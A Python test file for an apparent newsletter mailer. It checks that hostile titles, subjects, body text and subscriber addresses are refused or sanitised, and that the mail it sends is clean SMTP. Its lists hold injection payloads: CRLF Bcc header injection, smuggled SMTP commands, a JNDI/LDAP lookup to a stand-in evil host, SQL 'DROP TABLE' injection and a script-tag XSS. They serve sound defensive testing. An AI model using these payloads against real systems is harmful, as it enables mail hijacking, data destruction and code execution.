"""Hostile titles and texts are refused or cleaned when they come in; what leaves is clean to the last byte."""

import json
import re
from datetime import date, timedelta
from email import message_from_bytes, policy

import pytest

from app.core.errors import Invalid
from app.mail import headers
from app.subscribers.addresses import accept
from tests.issues import samples
from tests.web.reading import parts
from tests.world import DAY, World, recipients

INJECTIONS = [
    "\r\nBcc: evil@example.com",
    "\nBcc: evil@example.com",
    "\rBcc: evil@example.com",
    "\x00",
    "\x0b",
    "\x0c",
    "\x1b[31m",
    "\x7f",
    "\x85Bcc: evil@example.com",
    "\x9b",
    "\u2028Bcc: evil@example.com",
    "\u2029Bcc: evil@example.com",
    "\ud800",
    "\ufffe",
]
# What a text may hold and a mail must not be broken by: 27 endings and lines of SMTP, MIME and encodings.
HOSTILE = [
    ".",
    "..",
    "...QUIT",
    "句号.\n.\n",
    "\n.\r\n",
    "DATA",
    "RCPT TO:<evil@example.com>",
    "MAIL FROM:<evil@example.com>",
    "QUIT",
    "RSET",
    "354 go ahead",
    "250 2.0.0 Ok",
    "From evil@example.com Mon Oct 26 00:00:00 2026",
    "Bcc: evil@example.com",
    "Content-Type: text/html",
    "--=_boundary--",
    "=?utf-8?q?hello?=",
    "=?utf-8?b?DQpCY2M6IGV2aWw=?=",
    "=0D=0A.=0D=0A",
    "BS_ADDRESS__",
    "__bs_unsubscribe__",
    "{{ 7 * 7 }} {% raw %}",
    "${jndi:ldap://evil.example/a}",
    "%s %(address)s %n",
    "' OR 1=1; DROP TABLE subscriber; --",
    "</td></tr></table><script>alert(1)</script>",
    "𝕏" * 200 + "é" * 50 + "\u0301",
]
NAKED = re.compile(rb"(?<!\r)\n|\r(?!\n)")


@pytest.mark.parametrize("where", ["title", "lead", "paragraph", "subject"])
async def test_a_character_that_breaks_lines_is_refused_or_cleaned_at_intake_and_the_run_finishes(
    world: World, where: str
) -> None:
    await world.reader("r@example.com")
    texts = {"title": "缓存：先看瓶颈", "lead": "本期重点", "paragraph": "两种缓存", "subject": "主题"}
    taken = []
    for at, injection in enumerate(INJECTIONS):
        hostile = texts[where] + injection + "x"
        order = {"edition": "daily", "date": str(DAY + timedelta(days=at)), "format": "text"}
        order["source"] = samples.DAILY.replace(texts[where], hostile, 1)
        if where == "subject":
            order["subject"] = hostile
        kind = {"Content-Type": "application/json"}
        answer = await world.api.post("/issues", content=json.dumps(order), headers=kind)
        assert answer.status_code in (201, 422), answer.text
        if answer.status_code == 201:
            assert (subject := answer.json()["subject"]) == headers.clean(subject)
            taken.append(await world.send(answer.json()["id"], force=True))
    await world.deliver(*taken)
    for mailing in taken:
        assert (await world.books_balance(mailing))["sent"] == 1


async def test_twenty_seven_hostile_texts_leave_as_lines_that_no_server_can_misread(world: World) -> None:
    assert len(HOSTILE) == 27
    await world.readers(2)
    sent = []
    for at in range(0, 27, 9):
        lines = ["技术日报", "本期重点：缓存为何没有变快。", "重点"]
        for words in HOSTILE[at : at + 9]:
            one_line = " ".join(words.split())
            title = "缓存" if "://" in words else one_line[:40]  # which a title may not have
            lines += [f"缓存：{title}", f"{one_line} 它们的差别在于何时写回。"]
        issue = await world.issue("daily", DAY + timedelta(days=at), "\n".join(lines))
        sent.append(await world.send(issue, force=True))
    await world.deliver(*sent)
    assert len(world.sink.mails) == 3 * 2
    assert set(recipients(world.sink.mails)) == {"r0@example.com", "r1@example.com"}
    assert world.sink.lone_dots == 0
    for mail in world.sink.mails:
        assert not NAKED.search(mail.data)
        rows = mail.data.split(b"\r\n")
        assert not any(row.startswith(b".") for row in rows)
        assert max(map(len, rows)) <= 998
        assert mail.data.isascii()
        parsed = message_from_bytes(mail.data, policy=policy.default)
        assert not parsed.defects
        assert parsed["Bcc"] is None
        assert parsed["To"] == mail.recipient


async def test_the_words_of_a_hostile_text_arrive_as_they_were_written(world: World) -> None:
    await world.reader("r@example.com")
    for at, words in enumerate(("=?utf-8?q?hello?=", "{{ 7 * 7 }}", "</td><script>alert(1)</script>")):
        source = samples.DAILY.replace("它们的差别", f"{words} 它们的差别")
        issue = await world.issue("daily", date(2026, 11, 1 + at), source)
        await world.deliver(await world.send(issue, force=True))
        plain, html = parts(world.sink.mails[-1].data)
        assert words in plain
        assert "<script" not in html


@pytest.mark.parametrize(
    "address",
    ["r@exa mple.org", "r\n@example.org", "r@example.org>\r\nRCPT TO:<evil@example.com", "r @example.org"],
)
async def test_an_address_that_would_be_mailed_as_another_is_refused_at_every_door(
    world: World, address: str
) -> None:
    with pytest.raises(Invalid):
        accept(address)
    for path, body in (
        ("/subscribers", {"email": address, "editions": ["daily"], "language": "zh", "source": "paper"}),
    ):
        answer = await world.api.post(path, json=body)
        assert answer.status_code == 422, answer.text
    found = await world.api.get("/subscribers")
    assert found.json()["items"] == []
